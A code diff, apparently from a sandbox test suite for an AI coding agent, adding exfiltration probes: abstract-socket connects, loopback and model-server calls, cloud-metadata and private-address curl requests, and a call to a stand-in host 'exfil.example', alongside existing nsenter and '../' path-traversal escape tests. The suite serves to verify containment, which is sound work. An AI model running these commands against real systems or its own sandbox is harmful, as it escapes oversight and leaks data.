@@ -86,6 +86,8 @@ export function attacks(h: HostPaths): Attack[] {
     { name: 'send UDP to the host', group: 'exfiltrate', calls: [sh('udp', `for i in 1 2 3; do echo udp-exfil > /dev/udp/127.0.0.1/${h.udpPort}; done 2>/dev/null; true`)], succeeded: (w) => (w.listenerHits.some((x) => x.startsWith('udp')) ? 'the UDP listener got a packet' : null) },
     { name: 'resolve a name (DNS)', group: 'exfiltrate', calls: [sh('dns', `getent hosts registry.npmjs.org >/dev/null 2>&1 && echo PWNED; python3 -c "import socket; socket.getaddrinfo('example.com', 80); print('PWNED')" 2>/dev/null; true`)], succeeded: pwned },
     { name: 'connect to a host unix socket', group: 'exfiltrate', calls: [sh('unix', `python3 -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect('${h.unixSocket}'); s.send(b'CANARY-unix'); print('PWNED')" 2>/dev/null; true`)], succeeded: either(pwned, (w) => (w.listenerHits.some((x) => x.startsWith('unix')) ? 'the host unix socket was reached' : null)) },
+    // Abstract unix sockets belong to a network namespace, not to the filesystem: only the namespace keeps them out.
+    { name: 'connect to a host abstract unix socket', group: 'exfiltrate', calls: [sh('abstract', `python3 -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect('\\0pw-abstract-${h.tag}'); print('PWNED')" 2>/dev/null; true`)], succeeded: either(pwned, (w) => (w.listenerHits.some((x) => x.startsWith('abstract')) ? 'the host abstract socket was reached' : null)) },
     { name: "nsenter the host's network namespace", group: 'exfiltrate', calls: [sh('nsenter', `nsenter --net=/proc/1/ns/net true 2>/dev/null && echo PWNED; unshare -n true 2>/dev/null && echo PWNED; true`)], succeeded: pwned },
     // escape the checkout
     { name: 'apply_patch with ../ in the path', group: 'escape the checkout', calls: [patch(`*** Add File: ../../../../../../..${h.hostDir}/escape-dots.txt\n+x`)], succeeded: () => (exists(`${h.hostDir}/escape-dots.txt`) ? 'wrote outside through ..' : null) },
@@ -199,4 +201,61 @@ export function plantHost(h: HostPaths, c: Canaries, sqliteFile: string): void {
   write(path.join(h.hostRepo, 'math.test.js'), 'host file\n');
   fs.symlinkSync('/etc/hostname', path.join(h.hostRepo, 'link'));
   write(h.varTmpFile, `${c.varTmp}\n`);
+}
+
+/**
+ * Setup-phase attacks: each is a step of the repository's own setup (`.github/agent.yml` `setup:`),
+ * which runs with network, through the egress firewall. A step prints PWNED only when what it
+ * tries worked; it always exits 0, so that every step runs. Where nothing on the test machine
+ * answers (cloud metadata, a private address), the firewall's refusal is what shows it held.
+ */
+export interface SetupHost {
+  listenerPort: number;
+  udpPort: number;
+  unixSocket: string;
+  /** A host abstract unix socket's name (without the leading NUL). */
+  abstractName: string;
+  /** The app's own webhook/dashboard/metrics port, which an explicit allow-list entry names. */
+  appPort: number;
+  modelPort: number;
+  tag: string;
+}
+
+export interface SetupWorld {
+  /** The step's own output. */
+  output: string;
+  listenerHits: string[];
+  /** `host:port` of everything the firewall says it refused during setup. */
+  refused: string[];
+}
+
+export interface SetupAttack {
+  name: string;
+  group: 'exfiltrate';
+  /** One setup step (run by `sh -c`). */
+  step: string;
+  succeeded: (w: SetupWorld) => string | null;
+}
+
+export function setupAttacks(h: SetupHost): SetupAttack[] {
+  const py = (code: string) => `: setup-attack@${h.tag}; python3 -c "${code}" 2>/dev/null; true`;
+  const printed = (w: SetupWorld) => (/PWNED/.test(w.output) ? `printed: ${w.output.split('\n').find((l) => l.includes('PWNED'))}` : null);
+  const hit = (kind: string) => (w: SetupWorld) => (w.listenerHits.some((x) => x.startsWith(kind)) ? `the host's ${kind} listener was reached` : null);
+  const notRefused = (target: string) => (w: SetupWorld) => (w.refused.includes(target) ? null : `the firewall did not refuse ${target}`);
+  const any = (...fs: Array<(w: SetupWorld) => string | null>) => (w: SetupWorld) => fs.map((f) => f(w)).find((r) => r) ?? null;
+  const curl = (url: string, extra = '') => `: setup-attack@${h.tag}; curl -s -m 5 -o /dev/null -w '%{http_code}' ${extra} ${url} | grep -qvE '^(000|403)$' && echo PWNED; true`;
+  return [
+    { name: 'setup: connect to a host loopback port', group: 'exfiltrate', step: py(`import socket; socket.create_connection(('127.0.0.1', ${h.listenerPort}), 3); print('PWNED')`), succeeded: any(printed, hit('tcp')) },
+    { name: 'setup: a host loopback port through the proxy', group: 'exfiltrate', step: curl(`http://127.0.0.1:${h.listenerPort}/`), succeeded: any(printed, hit('tcp'), notRefused(`127.0.0.1:${h.listenerPort}`)) },
+    { name: "setup: the app's own port (webhooks, dashboard, /metrics) through the proxy, though an entry names it", group: 'exfiltrate', step: curl(`http://127.0.0.1:${h.appPort}/metrics`), succeeded: any(printed, notRefused(`127.0.0.1:${h.appPort}`)) },
+    { name: "setup: the app's own port directly", group: 'exfiltrate', step: py(`import socket; socket.create_connection(('127.0.0.1', ${h.appPort}), 3); print('PWNED')`), succeeded: printed },
+    { name: 'setup: the model server', group: 'exfiltrate', step: curl(`http://127.0.0.1:${h.modelPort}/v1/models`), succeeded: printed },
+    { name: 'setup: a host unix socket', group: 'exfiltrate', step: py(`import socket; s=socket.socket(socket.AF_UNIX); s.connect('${h.unixSocket}'); print('PWNED')`), succeeded: any(printed, hit('unix')) },
+    { name: 'setup: a host abstract unix socket', group: 'exfiltrate', step: py(`import socket; s=socket.socket(socket.AF_UNIX); s.connect('\\0${h.abstractName}'); print('PWNED')`), succeeded: any(printed, hit('abstract')) },
+    { name: 'setup: UDP to the host', group: 'exfiltrate', step: py(`import socket, time; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); [s.sendto(b'x', ('127.0.0.1', ${h.udpPort})) for i in range(3)]; time.sleep(0.2)`), succeeded: hit('udp') },
+    { name: 'setup: cloud metadata (169.254.169.254)', group: 'exfiltrate', step: curl('http://169.254.169.254/latest/meta-data/'), succeeded: any(printed, notRefused('169.254.169.254:80')) },
+    { name: 'setup: a private address', group: 'exfiltrate', step: curl('https://10.0.0.1/', '-p'), succeeded: any(printed, notRefused('10.0.0.1:443')) },
+    { name: 'setup: resolve a name (DNS)', group: 'exfiltrate', step: `: setup-attack@${h.tag}; getent hosts registry.npmjs.org >/dev/null 2>&1 && echo PWNED; true`, succeeded: printed },
+    { name: 'setup: a host that is not on the allow-list', group: 'exfiltrate', step: curl('https://exfil.example/'), succeeded: any(printed, notRefused('exfil.example:443')) },
+  ];
 }
